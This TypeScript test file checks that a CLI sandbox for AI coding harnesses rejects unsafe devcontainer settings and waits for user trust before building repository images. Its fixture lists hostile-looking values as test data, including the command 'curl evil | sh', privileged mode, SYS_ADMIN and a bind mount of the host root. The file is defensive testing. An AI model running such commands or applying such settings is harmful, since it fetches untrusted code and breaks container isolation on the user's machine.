// The project's environment as the CLI reads it, without an engine: a dry run
// plans the images and says what the devcontainer asks that omh does not honour.
import { writeFileSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { omh } from '../helpers/run.js'
import { gitRepo, testdir } from '@omh/test-utils'

const devcontainer = (extra: Record<string, unknown>) => JSON.stringify({ image: 'registry.example.com/app:1', ...extra })

/** Each key omh names rather than applies, and a value for it. */
const UNSUPPORTED: Record<string, unknown> = {
  features: { 'ghcr.io/devcontainers/features/node:1': {} },
  runArgs: ['--privileged'],
  mounts: ['source=/,target=/host,type=bind'],
  privileged: true,
  capAdd: ['SYS_ADMIN'],
  securityOpt: ['seccomp=unconfined'],
  dockerComposeFile: 'compose.yml',
  initializeCommand: 'curl evil | sh',
  postStartCommand: 'echo started',
  workspaceMount: 'source=/,target=/work,type=bind',
  appPort: [3000],
}

describe('the project environment at a dry run', () => {
  it.each(Object.keys(UNSUPPORTED))('names the devcontainer key %s as not honoured, and applies none of it', (key) => {
    const repo = gitRepo({ '.devcontainer/devcontainer.json': devcontainer({ [key]: UNSUPPORTED[key] }) })
    const env = { OMH_HOME: testdir() }
    expect(omh(['trust'], { cwd: repo, env }).status).toBe(0)
    const r = omh(['--dry-run', 'claude'], { cwd: repo, env })
    expect(r.status, r.stderr).toBe(0)
    expect(r.stderr).toContain(`omh: environment: .devcontainer/devcontainer.json — not honoured: ${key}\n`)
    const plan = omh(['--dry-run', '--json', 'claude'], { cwd: repo, env }).json().result
    expect(plan.environment.unsupported.map((u: { key: string }) => u.key)).toEqual([key])
    expect(JSON.stringify(plan.container)).not.toMatch(/privileged|SYS_ADMIN|seccomp|\/host|compose/)
    // omh render names it too, with why under --verbose.
    const rendered = omh(['render', 'claude', '--verbose'], { cwd: repo, env })
    expect(rendered.stderr).toMatch(new RegExp(`not honoured: ${key} \\(.+\\)`))
  })

  it('shows the environment, its setup and its variables in the plan', () => {
    const repo = gitRepo({
      '.devcontainer.json': devcontainer({ containerEnv: { MODE: 'x' }, onCreateCommand: 'make deps', postCreateCommand: ['npm', 'ci'], forwardPorts: [3000] }),
      '.omh/settings.toml': '[session]\nsetup = ["echo ready"]\ntest = "make test"\n',
    })
    const env = { OMH_HOME: testdir() }
    expect(omh(['trust'], { cwd: repo, env }).status).toBe(0)
    const r = omh(['--dry-run', 'claude'], { cwd: repo, env })
    expect(r.status, r.stderr).toBe(0)
    expect(r.stdout).toMatch(/environment +\.devcontainer\.json/)
    expect(r.stdout).toMatch(/setup +3 steps, once, before the harness/)
    expect(r.stdout).toMatch(/onCreateCommand make deps/)
    expect(r.stdout).toMatch(/postCreateCommand npm ci/)
    expect(r.stdout).toMatch(/\[session\] setup echo ready/)
    expect(r.stdout).toMatch(/tests +make test/)
    const plan = omh(['--dry-run', '--json', 'claude'], { cwd: repo, env }).json().result
    expect(plan.environment).toMatchObject({ describe: '.devcontainer.json', ports: [3000], test: 'make test', setupDone: false })
  })

  it('refuses a devcontainer.json that is bad JSONC, naming the file, line and column, and makes nothing', () => {
    const repo = gitRepo({ '.devcontainer/devcontainer.json': '{\n  "image": "x",\n  "containerEnv": {\n}' })
    const env = { OMH_HOME: testdir() }
    expect(omh(['trust'], { cwd: repo, env }).status).toBe(0)
    const r = omh(['--dry-run', 'claude'], { cwd: repo, env })
    expect(r.status).toBe(2)
    expect(r.stderr).toContain('Code: SETTINGS_INVALID')
    expect(r.stderr).toContain(`${path.join(repo, '.devcontainer/devcontainer.json')} has 1 problem:`)
    expect(r.stderr).toContain('line 4, col 2  JSONC: CloseBraceExpected')
  })

  it('waits for trust before planning a devcontainer or a Containerfile of the repository, naming each', () => {
    const repo = gitRepo({ '.devcontainer/devcontainer.json': JSON.stringify({ build: { dockerfile: 'Containerfile' } }), '.devcontainer/Containerfile': 'FROM x\n' })
    const env = { OMH_HOME: testdir() }
    const r = omh(['--dry-run', 'claude'], { cwd: repo, env })
    expect(r.status).toBe(2)
    expect(r.stderr).toContain('Code: REPOSITORY_UNTRUSTED')
    expect(r.stderr).toContain('.devcontainer/devcontainer.json  an image definition omh would build, with network; not trusted yet')
    expect(r.stderr).toContain('.devcontainer/Containerfile  an image definition omh would build, with network; not trusted yet')
    // Everything else still runs: only what builds a session waits.
    expect(omh(['render', 'claude'], { cwd: repo, env }).status).toBe(0)
    expect(omh(['trust'], { cwd: repo, env }).status).toBe(0)
    expect(omh(['--dry-run', 'claude'], { cwd: repo, env }).status).toBe(0)
    writeFileSync(path.join(repo, '.devcontainer/Containerfile'), 'FROM y\n')
    expect(omh(['--dry-run', 'claude'], { cwd: repo, env }).stderr).toContain('changed since you trusted it')
  })

  it("refuses [image] packages from the repository's settings until trusted, and takes them from your own", () => {
    const repo = gitRepo({ '.omh/settings.toml': '[image]\npackages = ["python3"]\n' })
    const home = testdir()
    const untrusted = omh(['--dry-run', 'claude'], { cwd: repo, env: { OMH_HOME: home } })
    expect(untrusted.status).toBe(2)
    expect(untrusted.stderr).toContain('image.packages: settings that widen the sandbox')
    writeFileSync(path.join(home, 'settings.toml'), '[image]\npackages = ["python3"]\n')
    expect(omh(['--dry-run', 'claude'], { cwd: repo, env: { OMH_HOME: home } }).status).toBe(0)
  })
})
